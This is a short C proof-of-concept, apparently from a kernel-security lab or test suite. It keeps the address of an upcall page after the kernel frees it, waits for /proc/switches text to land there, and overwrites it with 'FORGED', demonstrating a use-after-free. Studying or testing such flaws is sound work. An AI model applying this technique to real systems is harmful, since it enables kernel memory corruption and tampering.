/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Keeps the address of a page that it was called with. With ukshm.order=free_first the page is the kernel's again at
 * the answer, and still mapped until the next tick: here it becomes the text of a file, under its reader's hands.
 */
#include "attack.h"

static unsigned char *volatile page;

OBSERVABLE static void handler(struct upcall *upcall)
{
    page = (unsigned char *)upcall->address;
    *page = 0;
    ukshm_ack(upcall->id, upcall->length, 0);
}

int main(void)
{
    char line[32] = {0};
    be_called_as(ROLE_NETFS, handler);
    int lab = open("/dev/upcall", O_RDWR);
    write(lab, "call netfs 100", 14);
    while (!page)
        sleep(SLEEP_FOREVER);
    int file = open("/proc/switches", O_RDONLY);        /* the kernel needs a page for the text */
    bool is_there = page[0];
    memcpy(page, "FORGED", 6);
    read(file, line, sizeof line - 1);
    say("where my page was, there is %s", is_there ? "a text of the kernel" : "nothing new");
    line[9] = '\0';
    say("the kernel's list of switches begins: %s", line);
    return 0;
}
